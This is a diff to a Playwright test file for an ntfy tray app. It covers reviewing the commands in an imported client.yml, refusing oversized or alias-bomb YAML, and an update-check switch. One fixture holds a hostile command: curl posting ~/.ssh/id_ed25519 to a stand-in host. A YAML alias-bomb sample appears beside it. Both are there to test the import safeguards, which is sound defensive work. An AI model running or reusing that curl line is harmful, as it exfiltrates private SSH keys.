@@ -1,6 +1,6 @@
 import { readFile, stat } from 'node:fs/promises';
-import { expect, test, type Page } from '@playwright/test';
-import type { SettingsDto } from '../../common/ipc.ts';
+import { expect, test, type Locator, type Page } from '@playwright/test';
+import type { SettingsDto, UpdateChecksDto } from '../../common/ipc.ts';
 import { configSubscriptions } from '../../main/core/cli/client-config-plan.ts';
 import { parseClientConfig } from '../../main/core/client-config/client-config.ts';
 import { createKeytarSecretStore } from '../../main/core/store/secrets/keytar-secret-store.ts';
@@ -117,6 +117,7 @@ test('each kind of setting is saved to the core and survives a reload', async ({
     keepaliveTimeoutSeconds: 90,
     autoDownloadAttachments: 'subscription-server',
     autoDownloadMaxBytes: 2_097_152,
+    checkForUpdates: true,
   });
 
   await page.reload();
@@ -423,6 +424,10 @@ subscribe:
       buffer: Buffer.from(clientYml),
     });
 
+    // The one command waits for the user: accepted here (the review's own test is below).
+    const review = files.getByRole('region', { name: 'Commands in client.yml' });
+    await review.getByRole('checkbox', { name: 'Accept the command of client.yml, subscribe entry 2' }).check();
+    await review.getByRole('button', { name: 'Import with 1 accepted command' }).click();
     const report = files.getByRole('status');
     await expect(report).toContainText(
       'Imported 3, skipped 1 (already subscribed), 1 failed: client.yml, subscribe entry 5:',
@@ -515,6 +520,97 @@ subscribe:
     await bridge.core.service.clearCredentials(ntfy.url);
     await bridge.core.service.clearCredentials(`https://${host}`);
   }
+});
+
+/** Picks a client.yml in the Subscriptions group's import field, as a user does. */
+async function chooseClientYml(files: Locator, name: string, text: string): Promise<void> {
+  await files.getByLabel('Import from ntfy CLI client.yml').setInputFiles({
+    name,
+    mimeType: 'application/yaml',
+    buffer: Buffer.from(text),
+  });
+}
+
+test('a client.yml review lists each command verbatim; nothing is stored before the choice; accepted and refused ones', async ({
+  page,
+}) => {
+  const accepted = 'notify-send "$t" "$m"';
+  const refused = 'curl -s https://collect.example/ -d "$(cat ~/.ssh/id_ed25519)"\necho \'done\'';
+  const clientYml = `default-host: ${ntfy.url}
+subscribe:
+  - topic: review-ok
+    command: ${accepted}
+  - topic: review-evil
+    command: |-
+      ${refused.split('\n').join('\n      ')}
+  - topic: review-plain
+`;
+  await openSettings(page);
+  const files = group(page, 'Subscriptions');
+  await chooseClientYml(files, 'client.yml', clientYml);
+  const review = files.getByRole('region', { name: 'Commands in client.yml' });
+  const items = review.getByRole('listitem');
+  await expect(items).toHaveCount(2);
+  // Verbatim: every character of each command, line breaks and quotes included.
+  await expect(items.nth(0).locator('code')).toHaveText(accepted, { useInnerText: false });
+  expect(await items.nth(1).locator('code').textContent()).toBe(refused);
+  await expect(items.nth(1)).toContainText(`Subscribes to review-evil on ${ntfy.url}; runs:`);
+  await expect(files.getByRole('status')).toHaveText(
+    'Nothing imported yet: read the commands of client.yml below and choose.',
+  );
+  expect(await subscriptionsInCore()).toEqual([]);
+  await expect(review.getByRole('button', { name: 'Import without commands' })).toBeVisible();
+
+  await review.getByRole('checkbox', { name: 'Accept the command of client.yml, subscribe entry 1' }).check();
+  await review.getByRole('button', { name: 'Import with 1 accepted command' }).click();
+  const report = files.getByRole('status');
+  await expect(report).toContainText('Imported 3, skipped 0 (already subscribed), 0 failed.');
+  await expect(report).toContainText('1 subscription runs a command for each message.');
+  await expect(report).toContainText('1 subscription was imported without its command (not accepted).');
+  await expect(review).toHaveCount(0);
+  expect((await subscriptionsInCore()).map(({ topic, command }) => ({ topic, command }))).toEqual([
+    { topic: 'review-ok', command: accepted },
+    { topic: 'review-evil', command: undefined },
+    { topic: 'review-plain', command: undefined },
+  ]);
+
+  // Cancel stores nothing at all; "accept all" is one confirmation for every command.
+  const again = `subscribe:\n  - topic: ${ntfy.url}/again-a\n    command: echo a\n  - topic: ${ntfy.url}/again-b\n    command: echo b\n`;
+  await chooseClientYml(files, 'again.yml', again);
+  await files
+    .getByRole('region', { name: 'Commands in again.yml' })
+    .getByRole('button', { name: 'Cancel import' })
+    .click();
+  await expect(report).toHaveText('Import of again.yml canceled: nothing was stored.');
+  expect(await subscriptionsInCore()).toHaveLength(3);
+  await chooseClientYml(files, 'again.yml', again);
+  await files
+    .getByRole('region', { name: 'Commands in again.yml' })
+    .getByRole('button', { name: 'Accept all 2 commands and import' })
+    .click();
+  await expect(report).toContainText('2 subscriptions run a command for each message.');
+  expect((await subscriptionsInCore()).slice(3).map(({ topic, command }) => ({ topic, command }))).toEqual([
+    { topic: 'again-a', command: 'echo a' },
+    { topic: 'again-b', command: 'echo b' },
+  ]);
+});
+
+test('a client.yml over the limit or an alias bomb is refused whole, saying why', async ({ page }) => {
+  await openSettings(page);
+  const files = group(page, 'Subscriptions');
+  const over = `subscribe:\n${Array.from({ length: 1001 }, (_, index) => `  - topic: t${index}\n`).join('')}`;
+  await chooseClientYml(files, 'big.yml', over);
+  const report = files.getByRole('status');
+  await expect(report).toHaveText(
+    'Nothing imported: the file names 1,001 subscriptions; one import takes at most 1,000. Split the file.',
+  );
+  const bomb =
+    'a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nsubscribe: [*c]\n';
+  await chooseClientYml(files, 'bomb.yml', bomb);
+  await expect(report).toHaveText(
+    'Nothing imported: bomb.yml uses YAML aliases (*name) that expand too far (an alias bomb): write the values out instead.',
+  );
+  expect(await subscriptionsInCore()).toEqual([]);
 });
 
 test("export as client.yml writes what ntfy's CLI reads; passwords and tokens only when ticked", async ({ page }) => {
@@ -686,3 +782,51 @@ for (const colorScheme of ['light', 'dark'] as const) {
     },
   );
 }
+
+/** A fresh core whose build and administrator decide about update checks as given. */
+async function restartWith(updateChecks: UpdateChecksDto): Promise<void> {
+  await running?.close();
+  running = undefined;
+  bridge = await startWebBridge({ ntfyServerUrl: ntfy.url, log: createRecordingLogger('web-bridge'), updateChecks });
+  running = bridge;
+}
+
+test('a build without a release feed says it does not check for updates, and offers no switch', async ({ page }) => {
+  await openSettings(page);
+  const updates = group(page, 'Updates');
+  await expect(updates.getByText('This build does not check for updates.')).toBeVisible();
+  await expect(updates.getByRole('switch')).toHaveCount(0);
+});
+
+test('where the user decides, the Updates switch turns checks off and on', async ({ page }) => {
+  await restartWith('user');
+  await openSettings(page);
+  const updates = group(page, 'Updates');
+  const check = updates.getByRole('switch', { name: 'Check for new versions' });
+  await expect(check).toBeChecked();
+  await expect(check).toBeEnabled();
+  await expect(updates.getByText('This build does not check for updates.')).toHaveCount(0);
+
+  await check.click();
+  await expectCore((s) => s.preferences.checkForUpdates, false);
+  await expect(updates.getByRole('status')).toHaveText('Saved');
+  await expect(check).not.toBeChecked();
+  await check.click();
+  await expectCore((s) => s.preferences.checkForUpdates, true);
+});
+
+test('NTFY_TRAY_UPDATES=off: the switch shows off, cannot be changed, and says the administrator set it', async ({
+  page,
+}) => {
+  await restartWith('administrator-off');
+  await openSettings(page);
+  const updates = group(page, 'Updates');
+  const check = updates.getByRole('switch', { name: 'Check for new versions' });
+  await expect(check).not.toBeChecked();
+  await expect(check).toBeDisabled();
+  await expect(check).toHaveAccessibleDescription(
+    'Turned off by your administrator (NTFY_TRAY_UPDATES=off): ntfy Tray does not check for new versions.',
+  );
+  // The user's own choice is kept for when the administrator lifts it.
+  expect((await coreSettings()).preferences.checkForUpdates).toBe(true);
+});
